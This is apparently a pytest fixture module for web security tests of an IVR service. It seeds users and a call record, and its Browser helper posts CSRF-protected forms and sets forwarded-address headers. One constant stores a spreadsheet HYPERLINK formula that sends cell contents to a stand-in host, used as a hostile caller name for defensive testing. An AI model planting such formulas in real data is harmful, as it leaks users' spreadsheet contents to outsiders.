"""The web fault cases' rig: a real `ivr serve` beside its Asterisk, with the client area's
users and a message of Acme in its database, and browsers (aiohttp sessions with their own
cookies) that log in and post forms as a person's browser does, from a chosen address behind
the engine's trusted proxy (X-Forwarded-For) or from an address of their own."""

from __future__ import annotations

import re
import sqlite3
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import aiohttp
import pytest_asyncio
from fault_rig import RULES

from ivr.area import users
from ivr.harness.stack import Stack, stack_settings
from ivr.portal import portal_password, store
from ivr.records import db
from ivr.records.models import Call

PASSWORD = "correct horse battery"
HOSTILE_NAME = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
ADMIN, MEMBER, OTHER = "admin@acme.example", "member@acme.example", "other@acme.example"
PROXY = "127.0.0.1"  # the engine's trusted proxy: every test request comes from it
MESSAGE = "web.1"


class Browser:
    """One browser: its cookies, and (optionally) the client address its proxy reports."""

    def __init__(self, stack: Stack, client: str = "", local: str = "") -> None:
        self.base = f"http://{stack.settings.bind}:{stack.settings.ports.http}"
        self.headers = {"X-Forwarded-For": client} if client else {}
        connector = aiohttp.TCPConnector(local_addr=(local, 0)) if local else None
        self.http = aiohttp.ClientSession(
            cookie_jar=aiohttp.CookieJar(unsafe=True), connector=connector
        )

    async def close(self) -> None:
        await self.http.close()

    async def get(self, path: str, **kw: Any) -> tuple[int, str, Any]:
        kw.setdefault("allow_redirects", False)
        headers = {**self.headers, **kw.pop("headers", {})}
        async with self.http.get(self.base + path, headers=headers, **kw) as answer:
            return answer.status, await answer.text(errors="replace"), answer.headers

    async def token(self, path: str) -> str:
        status, page, _ = await self.get(path)
        found = re.search(r'name="csrf" value="([^"]+)"', page)
        assert found is not None, (path, status, page[:300])
        return found.group(1)

    async def post(
        self,
        path: str,
        data: dict[str, str],
        token: str | None = "",
        form_page: str = "",
        **kw: Any,
    ) -> tuple[int, str, Any]:
        """A form as the browser posts it: token "" means the token of the form's page."""
        if token == "":
            token = await self.token(form_page or path)
        fields = dict(data) if token is None else {**data, "csrf": token}
        headers = {**self.headers, **kw.pop("headers", {})}
        async with self.http.post(
            self.base + path, data=fields, headers=headers, allow_redirects=False, **kw
        ) as answer:
            return answer.status, await answer.text(errors="replace"), answer.headers

    def cookie(self, name: str) -> str:
        for cookie in self.http.cookie_jar:
            if cookie.key == name:
                return cookie.value
        return ""

    def plant(self, name: str, value: str) -> None:
        """A cookie set for the host by someone else (a sibling service, a subdomain)."""
        self.http.cookie_jar.update_cookies({name: value})

    async def area_login(self, email: str, password: str = PASSWORD) -> int:
        status, _, _ = await self.post(
            "/area/login", {"email": email, "password": password}, form_page="/area/login"
        )
        return status

    async def console_login(self, stack: Stack, user: str) -> int:
        password = portal_password(stack.settings, user)
        status, _, _ = await self.post("/console/login", {"user": user, "password": password})
        return status


# What Asterisk tells the engine of its queues (AMI events) lands in queue_events at its own
# pace; what an operator does at the console is in the same table under these kinds.
CONSOLE_KINDS = ("login", "logout", "available", "pause")


# Tables the engine writes by itself as time passes (heartbeats, leases), or that count the
# logins and sessions themselves.
SELF_WRITTEN = ("web_sessions", "login_failures", "alembic_version", "queue_events",
                "dialer_engines", "leases")  # fmt: skip


def fingerprint(stack: Stack) -> dict[str, int]:
    """What the database holds, table by table (the web sessions and login counters aside,
    and of the queue events only the console's actions): a hash of every row, to tell whether
    a request changed anything."""
    path = stack.settings.db_url.split(":///", 1)[1]
    out = {}
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as conn:
        names = [
            n
            for (n,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
            if n not in SELF_WRITTEN
        ]
        for name in names:
            rows = conn.execute(f'SELECT * FROM "{name}"').fetchall()  # noqa: S608 (our tables)
            out[name] = hash(tuple(sorted(map(repr, rows))))
        marks = ",".join("?" * len(CONSOLE_KINDS))
        rows = conn.execute(
            f"SELECT * FROM queue_events WHERE kind IN ({marks})",  # noqa: S608
            CONSOLE_KINDS,
        ).fetchall()
        out["console actions"] = hash(tuple(sorted(map(repr, rows))))
    return out


async def seed(stack: Stack) -> dict[str, int]:
    engine = db.make_engine(stack.settings.db_url)
    sessions = db.session_factory(engine)
    now = datetime.now(UTC)
    ids = {}
    try:
        for email, role in ((ADMIN, "admin"), (MEMBER, "member"), (OTHER, "member")):
            user = await users.add_user(sessions, "acme", email, PASSWORD, now, role=role)
            ids[email] = user.id
        async with sessions.begin() as session:
            at = now - timedelta(minutes=5)
            session.add(
                Call(
                    linkedid=MESSAGE,
                    client_id="acme",
                    client_name="Acme Plumbing",
                    caller_number="+390612000001",
                    caller_name=HOSTILE_NAME,
                    arrived_at=at,
                    ended_at=at + timedelta(minutes=1),
                    answered_at=at,
                    outcome="answered",
                    updated_at=at,
                )  # fmt: skip
            )
        await store.save_outcome(
            sessions,
            store.Outcome(MESSAGE, "op1", "acme", HOSTILE_NAME, "+390612000001",
                          "-2+3 call back", "callback", False, None, now),
        )  # fmt: skip
    finally:
        await engine.dispose()
    return ids


async def started(folder: Path) -> Stack:
    stack = Stack(stack_settings(folder, RULES), folder / "work")
    stack.extra_env["IVR_WEB_TRUSTED_PROXIES"] = PROXY
    await stack.start()
    return stack


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def web_stack(tmp_path_factory: Any) -> AsyncIterator[tuple[Stack, dict[str, int]]]:
    stack = await started(tmp_path_factory.mktemp("faults-web"))
    try:
        yield stack, await seed(stack)
    finally:
        await stack.close()
